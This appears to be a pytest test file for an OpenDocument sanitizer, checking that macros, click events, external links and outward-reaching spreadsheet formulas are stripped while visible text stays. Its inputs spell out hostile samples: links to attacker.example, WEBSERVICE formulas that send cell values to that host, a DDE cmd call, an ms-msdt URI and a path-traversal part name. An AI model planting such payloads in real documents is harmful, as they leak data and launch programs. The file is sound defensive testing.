"""OpenDocument contract: the same format without Basic, event listeners, macro links or external
images; plain hyperlinks and the text stay."""

from __future__ import annotations

import html
import io
import struct
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import pytest
from defusedxml.ElementTree import fromstring
from PIL import Image

from converters.inspect.odf import formula_problem as inspector_formula_problem
from converters.inspect.odf_package import check_odf
from converters.inspect.outputs import inspect_file
from tests.conftest import run_engine


def test_clean_odt_passes(samples: Path, tmp_path: Path) -> None:
    report = run_engine(samples / "odt-clean.odt", tmp_path)
    assert report.outcome == "passed" and report.outputs[0].path == "odt-clean.odt"
    assert inspect_file(tmp_path / "odt-clean.odt", tmp_path).clean


def test_macros_events_and_external_images_are_removed(samples: Path, tmp_path: Path) -> None:
    assert check_odf(samples / "odt-macro.odt")  # the inspector sees the dirt in the original
    report = run_engine(samples / "odt-macro.odt", tmp_path)
    codes = {f.code for f in report.findings}
    assert report.outcome == "sanitized"
    assert {"macro_removed", "script_event_removed", "external_link_removed"} <= codes
    output = tmp_path / report.outputs[0].path
    assert inspect_file(output, tmp_path).clean and check_odf(output) == []
    with zipfile.ZipFile(output) as package:
        assert package.namelist()[0] == "mimetype"
        assert package.getinfo("mimetype").compress_type == zipfile.ZIP_STORED
        assert not [n for n in package.namelist() if n.startswith("Basic/")]
        content = package.read("content.xml").decode()
        manifest = package.read("META-INF/manifest.xml").decode()
    assert "Basic/" not in manifest
    assert "attacker.example" not in content and "vnd.sun.star.script" not in content
    assert "令和8年度 予算要求書 ①㈱ 髙橋" in content and "マクロ実行" in content  # text kept
    assert "https://www.example.jp/" in content  # a plain hyperlink is not active content


# --- links and formulas: allowlists (issue 10) ---------------------------------------------------------------

ODF_NS = {
    "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
    "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0",
    "table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
    "draw": "urn:oasis:names:tc:opendocument:xmlns:drawing:1.0",
    "xlink": "http://www.w3.org/1999/xlink",
    "style": "urn:oasis:names:tc:opendocument:xmlns:style:1.0",
    "svg": "urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0",
    "meta": "urn:oasis:names:tc:opendocument:xmlns:meta:1.0",
    "presentation": "urn:oasis:names:tc:opendocument:xmlns:presentation:1.0",
    "script": "urn:oasis:names:tc:opendocument:xmlns:script:1.0",
    "form": "urn:oasis:names:tc:opendocument:xmlns:form:1.0",
    "calcext": "urn:org:documentfoundation:names:experimental:calc:xmlns:calcext:1.0",
    "of": "urn:oasis:names:tc:opendocument:xmlns:of:1.2",
    "fo": "urn:oasis:names:tc:opendocument:xmlns:xsl-fo-compatible:1.0",
}
XMLNS = " ".join(f'xmlns:{prefix}="{uri}"' for prefix, uri in ODF_NS.items())
ODF_MIME = {"odt": "application/vnd.oasis.opendocument.text", "ods": "application/vnd.oasis.opendocument.spreadsheet",
            "odp": "application/vnd.oasis.opendocument.presentation"}
BODY_TAG = {"odt": "office:text", "ods": "office:spreadsheet", "odp": "office:presentation"}


def write_odf(path: Path, body: str, *, styles: str = "", meta: str = "", pictures: bool = False) -> Path:
    """An OpenDocument package written by hand, so every attribute is exactly as an attacker writes it."""
    kind = path.suffix[1:]
    content = (f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {XMLNS} office:version="1.3">'
               f"<office:automatic-styles>{styles}</office:automatic-styles>"
               f"<office:body><{BODY_TAG[kind]}>{body}</{BODY_TAG[kind]}></office:body></office:document-content>")
    meta_xml = (f'<?xml version="1.0" encoding="UTF-8"?><office:document-meta {XMLNS} office:version="1.3">'
                f"<office:meta><meta:generator>test</meta:generator>{meta}</office:meta></office:document-meta>")
    # styles.xml is listed for the tests that add one (an unlisted part goes, as LibreOffice refuses it)
    entries = [("/", ODF_MIME[kind]), ("content.xml", "text/xml"), ("meta.xml", "text/xml"), ("styles.xml", "text/xml")]
    if pictures:
        entries.append(("Pictures/logo.png", "image/png"))
    manifest = ('<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest='
                '"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.3">'
                + "".join(f'<manifest:file-entry manifest:full-path="{p}" manifest:media-type="{t}"/>'
                          for p, t in entries) + "</manifest:manifest>")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr(zipfile.ZipInfo("mimetype"), ODF_MIME[kind], compress_type=zipfile.ZIP_STORED)
        package.writestr("META-INF/manifest.xml", manifest)
        package.writestr("content.xml", content)
        package.writestr("meta.xml", meta_xml)
        if pictures:
            package.writestr("Pictures/logo.png", png_bytes())
    return path


def png_bytes(colour: tuple[int, int, int] = (200, 30, 30)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (12, 8), colour).save(buffer, "PNG")
    return buffer.getvalue()


def parts_of(path: Path) -> tuple[ElementTree.Element, ElementTree.Element]:
    with zipfile.ZipFile(path) as package:
        return fromstring(package.read("content.xml")), fromstring(package.read("meta.xml"))


def hrefs(root: ElementTree.Element) -> list[str]:
    return [e.get(f"{{{ODF_NS['xlink']}}}href", "") for e in root.iter() if f"{{{ODF_NS['xlink']}}}href" in e.attrib]


def all_text(root: ElementTree.Element) -> str:
    return "".join(root.itertext())


UNSAFE_LINKS = [
    "file:///C:/Windows/System32/calc.exe",
    "&#x66;ile:///C:/Windows/System32/calc.exe",  # a character reference: the parser decodes it
    "  FILE:///C:/Users/Public/a.exe",  # leading spaces and upper case
    "\\\\attacker.example\\share\\invoice.exe",  # UNC
    "//attacker.example/share/invoice.exe",  # UNC written with slashes
    "../../Windows/System32/calc.exe",  # relative: resolved next to the document
    "ht&#x9;tp://attacker.example/",  # a tab inside the scheme is not http
    "smb://attacker.example/share/a.exe",
    "vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=application",
    "ms-msdt:/id PCWDiagnostic",
    "mailto:soumu@city.example.lg.jp?subject=%E8%A6%8B%E7%A9%8D&amp;attach=file:///C:/Users/a/secret.docx",
    "mailto:soumu@city.example.lg.jp?subject=a%0D%0ABcc:%20x@attacker.example",
]
SAFE_LINKS = {" HTTPS://www.example.jp/ ": "HTTPS://www.example.jp/", "https://www.city.example.lg.jp/": None,
              "MailTo:soumu@city.example.lg.jp": None, "#目次": None, "http://&#x65;xample.jp/": "http://example.jp/"}


@pytest.mark.parametrize("href", UNSAFE_LINKS)
def test_text_and_drawing_links_are_an_allowlist(tmp_path: Path, href: str) -> None:
    body = (f'<text:p>前の文 <text:a xlink:type="simple" xlink:href="{href}">請求書を<text:span>開く</text:span>'
            f"ボタン</text:a> 後の文</text:p>"
            f'<text:p><draw:a xlink:type="simple" xlink:href="{href}"><draw:frame draw:name="図1" svg:width="2cm" '
            'svg:height="1cm" text:anchor-type="as-char"><draw:text-box><text:p>図の文字</text:p></draw:text-box>'
            "</draw:frame></draw:a></text:p>"
            f'<text:p><draw:frame draw:name="画像" svg:width="1cm" svg:height="1cm"><draw:image xlink:href="{href}" '
            'xlink:type="simple"/></draw:frame>画像の後</text:p>'
            f'<office:forms><form:form form:name="f"><form:button form:name="b" form:id="b1" '
            f'form:button-type="url" xlink:href="{href}"/></form:form></office:forms>')
    styles = (f'<style:style style:name="fr1" style:family="graphic"><style:graphic-properties>'
              f'<style:background-image xlink:href="{href}" xlink:type="simple"/></style:graphic-properties>'
              f'</style:style><draw:fill-image draw:name="塗り" xlink:href="{href}" xlink:type="simple"/>')
    source = write_odf(tmp_path / "リンク.odt", body, styles=styles, meta=(
        f'<meta:template xlink:type="simple" xlink:href="{href}" xlink:title="t"/>'
        '<meta:auto-reload meta:delay="PT1S" xlink:href="https://example.jp/"/>'))
    found = check_odf(source)  # the inspector reads the original's links by itself
    assert len([p for p in found if "content.xml" in p and ("unsafe link" in p or "outside the package" in p)]) >= 5
    assert [p for p in found if "meta.xml" in p and "auto-reload" in p]
    report = run_engine(source, tmp_path / "out")
    assert report.outcome == "sanitized"
    assert {"external_link_removed", "script_link_removed"} & {f.code for f in report.findings}
    output = tmp_path / "out" / report.outputs[0].path
    content, meta = parts_of(output)
    assert hrefs(content) == [] and hrefs(meta) == []
    assert meta.find(f".//{{{ODF_NS['meta']}}}auto-reload") is None
    assert "前の文 請求書を開くボタン 後の文" in all_text(content)  # the link became its visible text, in order
    assert "図の文字" in all_text(content) and "画像の後" in all_text(content)
    assert content.find(f".//{{{ODF_NS['draw']}}}frame") is not None  # the shape stays, not its link
    assert check_odf(output) == [] and inspect_file(output, tmp_path).clean


def test_safe_links_stay_written_as_the_application_reads_them(tmp_path: Path) -> None:
    body = "".join(f'<text:p><text:a xlink:type="simple" xlink:href="{href}">リンク{n}</text:a></text:p>'
                   for n, href in enumerate(SAFE_LINKS))
    body += ('<text:p><draw:frame draw:name="p" svg:width="1cm" svg:height="1cm"><draw:image '
             'xlink:href="Pictures/logo.png" xlink:type="simple"/></draw:frame></text:p>')
    source = write_odf(tmp_path / "安全.odt", body, pictures=True)
    assert check_odf(source) != []  # " HTTPS://..." with spaces is not how a safe link is written
    report = run_engine(source, tmp_path / "out")
    output = tmp_path / "out" / report.outputs[0].path
    content, _ = parts_of(output)
    expected = [(kept or href.replace("&#x65;", "e")) for href, kept in SAFE_LINKS.items()]
    assert hrefs(content) == [*expected, "Pictures/logo.png"]
    assert check_odf(output) == []


ODS_CELLS = {
    # formula (as written in the XML) -> the cell's cached value type and value, and its text
    'of:=HYPERLINK(&quot;file:///C:/Windows/System32/calc.exe&quot;;&quot;開く&quot;)': ("string", "開く"),
    'of:=HYPERLINK(&quot;\\\\attacker.example\\share\\a.exe&quot;)': ("string", "共有"),
    "of:=HYPERLINK([.B1])": ("string", "セル参照のリンク"),
    'of:=COM.MICROSOFT.WEBSERVICE(&quot;http://attacker.example/?q=&quot;&amp;[.A1])': ("float", "42"),
    'of:=&#x57;EBSERVICE(&quot;http://attacker.example/&quot;)': ("float", "43"),
    'of:=COM.MICROSOFT.FILTERXML(COM.MICROSOFT.WEBSERVICE(&quot;https://attacker.example/x&quot;);&quot;//a&quot;)':
        ("string", "抽出"),
    'of:=DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;A1&quot;)': ("float", "0"),
    "of:=['file:///C:/秘密/台帳.ods'#$Sheet1.A1]": ("float", "7"),
    "of:=SUM(['https://attacker.example/x.ods'#$Sheet1.A1:.B3])": ("float", "8"),
    "oooc:='file:///C:/x.ods'#$Sheet1.A1": ("float", "9"),
    "msoxl:=[1]Sheet1!A1": ("float", "10"),
    'of:=INDIRECT(&quot;&apos;file:///C:/x.ods&apos;#$Sheet1.A1&quot;)': ("float", "11"),
}
SAFE_FORMULAS = ["of:=SUM([.A1:.A3])", 'of:=HYPERLINK(&quot;https://www.example.jp/&quot;;&quot;公式&quot;)',
                 "of:=[$'予算 シート'.A1]*2", 'of:=IF(ISNA([.A1]);&quot;なし&quot;;[.A1])']


def _cell(formula: str, kind: str, value: str) -> str:
    cached = f'office:value="{value}"' if kind == "float" else f'office:string-value="{value}"'
    target = "https://www.example.jp/" if "https://www.example.jp/" in formula else "file:///C:/Windows/calc.exe"
    text = f'<text:a xlink:href="{target}">{value}</text:a>' if "HYPERLINK" in formula else value
    return (f'<table:table-cell table:formula="{formula}" office:value-type="{kind}" {cached}>'
            f"<text:p>{text}</text:p></table:table-cell>")


def test_spreadsheet_formulas_reaching_outside_keep_only_their_cached_value(tmp_path: Path) -> None:
    rows = "".join(f"<table:table-row>{_cell(f, k, v)}</table:table-row>" for f, (k, v) in ODS_CELLS.items())
    rows += "".join(f"<table:table-row>{_cell(f, 'float', str(n))}</table:table-row>"
                    for n, f in enumerate(SAFE_FORMULAS))
    validation = ('<table:content-validations><table:content-validation table:name="v1" table:condition='
                  '"of:cell-content-is-in-list(COM.MICROSOFT.WEBSERVICE(&quot;http://attacker.example/l&quot;))" '
                  'table:base-cell-address="Sheet1.A1"><table:error-macro table:execute="true"/>'
                  '</table:content-validation><table:content-validation table:name="v2" '
                  'table:condition="of:cell-content-is-whole-number() and cell-content-is-between(1;10)" '
                  'table:base-cell-address="Sheet1.A2"/></table:content-validations>')
    named = ('<table:named-expressions><table:named-expression table:name="外部" '
             'table:expression="of:=WEBSERVICE(&quot;http://attacker.example/n&quot;)" table:base-cell-address='
             '"$Sheet1.$A$1"/><table:named-range table:name="遠く" table:cell-range-address='
             "\"'file:///C:/x.ods'#$Sheet1.$A$1\" table:base-cell-address=\"$Sheet1.$A$1\"/>"
             '<table:named-range table:name="合計範囲" table:cell-range-address="$Sheet1.$A$1:.$A$3" '
             'table:base-cell-address="$Sheet1.$A$1"/></table:named-expressions>')
    formats = ('<calcext:conditional-formats><calcext:conditional-format calcext:target-range-address="Sheet1.A1:'
               'Sheet1.A9"><calcext:condition calcext:apply-style-name="Good" calcext:value="formula-is(['
               "'file:///C:/x.ods'#$Sheet1.A1]&gt;0)\" calcext:base-cell-address=\"Sheet1.A1\"/>"
               '<calcext:condition calcext:apply-style-name="Good" calcext:value="formula-is([.A1]&gt;0)" '
               'calcext:base-cell-address="Sheet1.A1"/></calcext:conditional-format></calcext:conditional-formats>')
    styles = ('<style:style style:name="ce1" style:family="table-cell"><style:map style:condition='
              '"is-true-formula(WEBSERVICE(&quot;http://attacker.example/s&quot;))" style:apply-style-name="Good" '
              'style:base-cell-address="Sheet1.A1"/><style:map style:condition="cell-content()&gt;10" '
              'style:apply-style-name="Good" style:base-cell-address="Sheet1.A1"/></style:style>')
    body = (f'{validation}<table:table table:name="Sheet1"><table:table-column/>{rows}</table:table>'
            f"{named}{formats}")
    source = write_odf(tmp_path / "予算.ods", body, styles=styles)
    original = check_odf(source)
    assert len([p for p in original if "content.xml" in p]) >= len(ODS_CELLS)
    report = run_engine(source, tmp_path / "out")
    assert report.outcome == "sanitized" and "external_formula_removed" in {f.code for f in report.findings}
    output = tmp_path / "out" / report.outputs[0].path
    assert check_odf(output) == [] and inspect_file(output, tmp_path).clean
    with zipfile.ZipFile(output) as package:
        xml = package.read("content.xml").decode("utf-8")
    for needle in ("attacker.example", "file:", "WEBSERVICE", "DDE(", "msoxl", "error-macro", "外部", "遠く"):
        assert needle not in xml, needle
    content, _ = parts_of(output)
    table = ODF_NS["table"]
    cells = list(content.iter(f"{{{table}}}table-cell"))
    formulas = [c.get(f"{{{table}}}formula") for c in cells]
    assert formulas == [None] * len(ODS_CELLS) + [f.replace("&quot;", '"') for f in SAFE_FORMULAS]
    for cell, (kind, value) in zip(cells, ODS_CELLS.values(), strict=False):
        cached = cell.get(f"{{{ODF_NS['office']}}}value" if kind == "float" else
                          f"{{{ODF_NS['office']}}}string-value")
        assert (cached, all_text(cell)) == (value, value)  # the cached value and the shown text stay
    assert hrefs(content) == ["https://www.example.jp/"]  # only the safe HYPERLINK cell's shown link
    conditions = [v.get(f"{{{table}}}condition") for v in content.iter(f"{{{table}}}content-validation")]
    assert conditions == [None, "of:cell-content-is-whole-number() and cell-content-is-between(1;10)"]
    assert [m.get(f"{{{ODF_NS['style']}}}condition") for m in content.iter(f"{{{ODF_NS['style']}}}map")] == [
        "cell-content()>10"]
    assert [c.get(f"{{{ODF_NS['calcext']}}}value") for c in content.iter(f"{{{ODF_NS['calcext']}}}condition")] == [
        "formula-is([.A1]>0)"]
    assert [r.get(f"{{{table}}}name") for r in content.iter(f"{{{table}}}named-range")] == ["合計範囲"]


@pytest.mark.parametrize("formula", list(ODS_CELLS))
def test_the_inspector_reads_each_formula_by_itself(formula: str) -> None:
    decoded = html.unescape(formula)
    assert inspector_formula_problem(decoded) is not None


@pytest.mark.parametrize("formula", SAFE_FORMULAS)
def test_the_inspector_leaves_local_formulas_alone(formula: str) -> None:
    assert inspector_formula_problem(html.unescape(formula)) is None


def test_presentation_click_actions_and_links_are_removed(tmp_path: Path) -> None:
    body = ('<draw:page draw:name="表紙"><draw:frame draw:name="ボタン" svg:width="4cm" svg:height="1cm" '
            'svg:x="1cm" svg:y="1cm"><draw:text-box><text:p>次へ <text:a xlink:href=" file:///C:/x.exe">'
            "ここ</text:a></text:p></draw:text-box><office:event-listeners><presentation:event-listener "
            'script:event-name="dom:click" presentation:action="show" xlink:href="\\\\attacker.example\\s\\a.exe"/>'
            '</office:event-listeners></draw:frame><draw:a xlink:href="//attacker.example/s/b.exe">'
            '<draw:custom-shape draw:name="矢印" svg:width="1cm" svg:height="1cm"><text:p>矢印</text:p>'
            "</draw:custom-shape></draw:a></draw:page>")
    source = write_odf(tmp_path / "発表.odp", body)
    assert check_odf(source)
    report = run_engine(source, tmp_path / "out")
    output = tmp_path / "out" / report.outputs[0].path
    content, _ = parts_of(output)
    assert hrefs(content) == [] and "次へ ここ" in all_text(content) and "矢印" in all_text(content)
    assert content.find(f".//{{{ODF_NS['draw']}}}custom-shape") is not None
    assert {"external_link_removed", "script_event_removed"} <= {f.code for f in report.findings}
    assert check_odf(output) == []


def test_odf_formulas_keep_only_local_functions() -> None:
    from converters.formats.odf_references import formula_risk

    for local in ("of:=SUM([.A1:.A5])", "of:=COM.MICROSOFT.XLOOKUP([.A1];[.B1:.B4];[.C1:.C4])",
                  "of:=ORG.OPENOFFICE.WEEKS([.A1];[.A2];0)", "of:=TEXT(NOW();\"yyyy\")",
                  "of:cell-content-is-between(1;10)", "of:formula-is([.A1]>0)", "value()>=0"):
        assert formula_risk(local) is None, local
    for outside in ("of:=SHELL(\"calc\")", "of:=COM.MICROSOFT.WEBSERVICE(\"http://x\")",
                    "of:=ORG.OPENOFFICE.UNKNOWNADDIN(1)", "of:=SUM(1;EXECUTE(\"x\"))"):
        assert formula_risk(outside) is not None, outside


# --- what the output binds each prefix to, and its part names (fuzz 2947f21f5717) --------------------------------

REGRESSIONS = Path(__file__).resolve().parents[2] / "fuzz" / "regressions"


def test_prefixes_bound_to_other_namespaces_are_written_with_the_usual_ones(tmp_path: Path) -> None:
    """``text:`` bound to the table namespace: an application reads the element by namespace (a
    table element ODF does not define: dropped and reported, as every unknown element is), a
    byte-level reader by prefix (an execute-macro). The real execute-macro written as ``t:`` is
    unwrapped; the output binds every usual prefix to its own namespace, so the inspector and the
    application read the same elements."""
    src = write_odf(tmp_path / "prefixes.odt", (
        f'<t:p xmlns:t="{ODF_NS["text"]}"><t:execute-macro t:name="Main">マクロ実行</t:execute-macro></t:p>'
        f'<text:p xmlns:text="{ODF_NS["table"]}"><text:execute-macro text:name="Main">表の要素</text:execute-macro>'
        "</text:p>"))
    report = run_engine(src, tmp_path / "out")
    codes = {f.code for f in report.findings}
    assert report.outcome == "sanitized" and {"script_event_removed", "unknown_markup_removed"} <= codes
    output = tmp_path / "out" / report.outputs[0].path
    assert check_odf(output) == [] and inspect_file(output, tmp_path).clean
    with zipfile.ZipFile(output) as package:
        content = package.read("content.xml")
    assert b"<text:execute-macro" not in content and b"xmlns:t=" not in content
    assert b"execute-macro" not in content  # table:p and table:execute-macro: not in the ODF schema
    root = fromstring(content)
    assert root.find(f".//{{{ODF_NS['text']}}}execute-macro") is None
    assert "マクロ実行" in all_text(root) and "表の要素" not in all_text(root)


def test_a_part_named_twice_or_outside_the_package_is_written_once_or_not_at_all(tmp_path: Path) -> None:
    src = write_odf(tmp_path / "names.odt", "<text:p>本文</text:p>")
    with zipfile.ZipFile(src, "a") as package, pytest.warns(UserWarning, match="Duplicate name"):
        package.writestr("../../evil.xml", "<x/>")
        package.writestr("content.xml", f'<office:document-content {XMLNS}><office:body><office:text>'
                                        "<text:p>後の本文</text:p></office:text></office:body></office:document-content>")
    report = run_engine(src, tmp_path / "out")
    assert ("part_removed", "a part named outside the package: ../../evil.xml") in \
        {(f.code, f.detail) for f in report.findings}
    with zipfile.ZipFile(tmp_path / "out" / report.outputs[0].path) as package:
        names = package.namelist()
        assert names.count("content.xml") == 1 and not [n for n in names if ".." in n]
        assert "後の本文" in package.read("content.xml").decode()  # the one zipfile (and so the rebuild) read


def test_fuzz_input_with_a_rebound_text_prefix_passes_the_inspector(tmp_path: Path) -> None:
    src = tmp_path / "odt-macro.odt"
    src.write_bytes((REGRESSIONS / "2947f21f5717-odf.bin").read_bytes())
    report = run_engine(src, tmp_path / "out")
    assert report.outcome == "sanitized"
    output = tmp_path / "out" / report.outputs[0].path
    assert check_odf(output) == [] and inspect_file(output, tmp_path).clean


def test_a_comment_in_the_manifest_is_not_an_entry(samples: Path, tmp_path: Path) -> None:
    """Found by fuzzing: a comment among manifest:file-entry elements crashed the rebuild."""
    source = samples / "odt-macro.odt"
    target = tmp_path / "commented.odt"
    with zipfile.ZipFile(source) as original, zipfile.ZipFile(target, "w") as out:
        for info in original.infolist():
            data = original.read(info)
            if info.filename == "META-INF/manifest.xml":
                data = data.replace(b"<manifest:file-entry", b"<!-- x --><manifest:file-entry", 1)
                assert b"<!-- x -->" in data
            out.writestr(info, data)
    report = run_engine(target, tmp_path / "out")
    assert report.outcome == "sanitized", report.reason


def _with_part(source: Path, target: Path, part: str, data: bytes) -> Path:
    with zipfile.ZipFile(source) as original, zipfile.ZipFile(target, "w") as out:
        for info in original.infolist():
            out.writestr(info, data if info.filename == part else original.read(info))
    return target


def test_the_manifest_is_written_afresh_from_its_entries(tmp_path: Path) -> None:
    """Found by fuzzing: a formula cell among the manifest's entries was copied into the output
    manifest (the inspector read a WEBSERVICE call there). Only file entries, with the attributes a
    manifest entry has, are written."""
    src = write_odf(tmp_path / "plain.odt", "<text:p>本文</text:p>")
    manifest = (
        '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest='
        f'"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" {XMLNS} manifest:version="1.3">'
        '<manifest:file-entry manifest:full-path="/" manifest:version="1.3" '
        f'manifest:media-type="{ODF_MIME["odt"]}" xlink:href="file:///C:/a.exe"/>'
        '<table:table-cell table:formula="of:=WEBSERVICE(&quot;http://example.com&quot;)"><text:p>1</text:p>'
        '<manifest:file-entry manifest:full-path="nested.xml" manifest:media-type="text/xml"/></table:table-cell>'
        "<!-- a comment -->"
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml">'
        "<text:script>Shell()</text:script></manifest:file-entry>"
        '<manifest:file-entry manifest:media-type="text/xml"/>'
        '<manifest:file-entry manifest:full-path="meta.xml" manifest:media-type="text/xml"/>'
        "</manifest:manifest>")
    target = _with_part(src, tmp_path / "manifest.odt", "META-INF/manifest.xml", manifest.encode())
    report = run_engine(target, tmp_path / "out")
    assert report.outcome == "passed", report.reason
    output = tmp_path / "out" / report.outputs[0].path
    assert check_odf(output) == [] and inspect_file(output, tmp_path).clean
    with zipfile.ZipFile(output) as package:
        written = fromstring(package.read("META-INF/manifest.xml"))
    ns = "{urn:oasis:names:tc:opendocument:xmlns:manifest:1.0}"
    assert written.tag == f"{ns}manifest" and written.attrib == {f"{ns}version": "1.3"} and not written.text
    assert [(e.tag, dict(e.attrib), list(e), e.text, e.tail) for e in written] == [
        (f"{ns}file-entry", {f"{ns}full-path": "/", f"{ns}version": "1.3", f"{ns}media-type": ODF_MIME["odt"]},
         [], None, None),
        (f"{ns}file-entry", {f"{ns}full-path": "content.xml", f"{ns}media-type": "text/xml"}, [], None, None),
        (f"{ns}file-entry", {f"{ns}full-path": "meta.xml", f"{ns}media-type": "text/xml"}, [], None, None)]


def test_fuzz_input_with_a_formula_in_the_manifest_passes_the_inspector(tmp_path: Path) -> None:
    src = tmp_path / "odt-macro.odt"
    src.write_bytes((REGRESSIONS / "094676bd4942-odf.bin").read_bytes())
    report = run_engine(src, tmp_path / "out")
    assert report.outcome == "sanitized"
    output = tmp_path / "out" / report.outputs[0].path
    assert check_odf(output) == [] and inspect_file(output, tmp_path).clean


def test_a_manifest_that_is_not_a_manifest_blocks_the_file(tmp_path: Path) -> None:
    src = write_odf(tmp_path / "plain.odt", "<text:p>本文</text:p>")
    manifest = (f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {XMLNS}>'
                '<manifest:file-entry xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" '
                'manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/>'
                "</office:document-content>")
    target = _with_part(src, tmp_path / "manifest.odt", "META-INF/manifest.xml", manifest.encode())
    report = run_engine(target, tmp_path / "out")
    assert report.outcome == "blocked" and report.reason_code == "corrupt_file", report
    assert report.reason == "the OpenDocument manifest (META-INF/manifest.xml) is not a manifest" and not report.outputs
    assert not list((tmp_path / "out").glob("*.odt"))


STYLES_IN = {  # a part in an encoding expat cannot read: written again in UTF-8
    "Shift_JIS": "cp932", "EUC-JP": "euc_jp", "ISO-2022-JP": "iso2022_jp", "UTF-16": "utf-16"}


@pytest.mark.parametrize("declared", sorted(STYLES_IN))
def test_a_part_in_another_encoding_is_written_in_utf8(tmp_path: Path, declared: str) -> None:
    """Found by fuzzing: an unchanged styles.xml declared as Shift_JIS was copied as it was; libxml2
    reads it, the inspector's parser (expat) refuses it ('multi-byte encodings are not supported')."""
    src = write_odf(tmp_path / "plain.odt", "<text:p>本文</text:p>")
    styles = (f'<?xml version="1.0" encoding="{declared}" standalone="yes"?><office:document-styles {XMLNS} '
              'office:version="1.3"><office:styles><style:style style:name="見出し" style:family="paragraph"/>'
              "</office:styles></office:document-styles>")
    target = tmp_path / "styles.odt"
    with zipfile.ZipFile(src) as original, zipfile.ZipFile(target, "w") as out:
        for info in original.infolist():
            out.writestr(info, original.read(info))
        out.writestr("styles.xml", styles.encode(STYLES_IN[declared]))
    report = run_engine(target, tmp_path / "out")
    assert report.outcome == "passed", report.reason
    output = tmp_path / "out" / report.outputs[0].path
    assert check_odf(output) == [] and inspect_file(output, tmp_path).clean
    with zipfile.ZipFile(output) as package:
        written = package.read("styles.xml")
    assert written.startswith(b"<?xml version='1.0' encoding='UTF-8'")
    style = fromstring(written).find(f".//{{{ODF_NS['style']}}}style")
    assert style is not None and style.get(f"{{{ODF_NS['style']}}}name") == "見出し"


@pytest.mark.parametrize("data", [
    b'<?xml version="1.0" encoding="x-no-such-encoding"?><office:document-styles/>',
    b'<?xml version="1.0" encoding="Shift_JIS"?><office:document-styles>\x81\x7f\xff</office:document-styles>',
    b'<?xml version="1.0" encoding="UTF-8"?><office:document-styles>\xff\xfe</office:document-styles>'])
def test_a_part_that_cannot_be_decoded_blocks_the_file(tmp_path: Path, data: bytes) -> None:
    src = write_odf(tmp_path / "plain.odt", "<text:p>本文</text:p>")
    target = tmp_path / "styles.odt"
    with zipfile.ZipFile(src) as original, zipfile.ZipFile(target, "w") as out:
        for info in original.infolist():
            out.writestr(info, original.read(info))
        out.writestr("styles.xml", data)
    report = run_engine(target, tmp_path / "out")
    assert report.outcome == "blocked" and report.reason_code == "corrupt_file", report
    assert report.reason == "the document part styles.xml is not well-formed XML" and not report.outputs


def test_fuzz_input_with_a_shift_jis_styles_part_passes_the_inspector(tmp_path: Path) -> None:
    src = tmp_path / "odt-macro.odt"
    src.write_bytes((REGRESSIONS / "63db2531e185-odf.bin").read_bytes())
    report = run_engine(src, tmp_path / "out")
    assert report.outcome == "sanitized"
    output = tmp_path / "out" / report.outputs[0].path
    assert check_odf(output) == [] and inspect_file(output, tmp_path).clean


# --- keep known good, element by element (converters/formats/odf_allowlist.py) ---------------------------------


def test_elements_and_attributes_odf_does_not_define_are_dropped_and_reported(tmp_path: Path) -> None:
    """A made-up element in text:, table: and draw:, an element of a namespace nobody knows and a
    made-up text: attribute go; the defined elements around them (with character references in
    their values) stay; LibreOffice's own extension namespace stays."""
    loext = "urn:org:documentfoundation:names:experimental:office:xmlns:loext:1.0"
    body = (f'<text:p xmlns:loext="{loext}" text:style-name="&#x53;tandard" text:onload="calc.exe">残す'
            '<text:autorun>calc.exe</text:autorun></text:p>'
            '<table:launch xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0">calc.exe</table:launch>'
            '<draw:payload xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0">calc.exe</draw:payload>'
            '<evil:script xmlns:evil="urn:x-evil">calc.exe</evil:script>'
            f'<text:p xmlns:loext="{loext}"><text:span>見出し</text:span>'
            '<loext:contentControl>入力欄</loext:contentControl></text:p>')
    report = run_engine(write_odf(tmp_path / "unknown.odt", body), tmp_path / "out")
    assert report.outcome == "sanitized" and "unknown_markup_removed" in {f.code for f in report.findings}
    output = tmp_path / "out" / report.outputs[0].path
    assert check_odf(output) == [] and inspect_file(output, tmp_path).clean
    with zipfile.ZipFile(output) as package:
        content = package.read("content.xml")
    for gone in (b"calc.exe", b"autorun", b"launch", b"payload", b"evil", b"onload"):
        assert gone not in content, gone
    root = fromstring(content)
    paragraphs = root.findall(f".//{{{ODF_NS['text']}}}p")
    assert paragraphs[0].get(f"{{{ODF_NS['text']}}}style-name") == "Standard"
    assert "残す" in all_text(root) and "見出し" in all_text(root) and "入力欄" in all_text(root)


def test_a_document_libreoffice_wrote_loses_nothing(samples: Path, tmp_path: Path) -> None:
    report = run_engine(samples / "odt-clean.odt", tmp_path)
    assert report.outcome == "passed" and not report.findings


# --- part kinds: only the parts an OpenDocument file is made of (converters/formats/odf_parts.py) -------------

MZ = b"MZ\x90\x00" + bytes(60) + b"This program cannot be run in DOS mode.\r\r\n$" + bytes(64)
RDF_PAYLOAD = (
    '<?xml version="1.0" encoding="utf-8"?><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" '
    'xmlns:pkg="http://docs.oasis-open.org/ns/office/1.2/meta/pkg#" xmlns:x="urn:x-evil">'
    '<rdf:Description rdf:about="content.xml"><rdf:type '
    'rdf:resource="http://docs.oasis-open.org/ns/office/1.2/meta/odf#ContentFile"/></rdf:Description>'
    '<rdf:Description rdf:about=""><pkg:hasPart rdf:resource="content.xml"/></rdf:Description>'
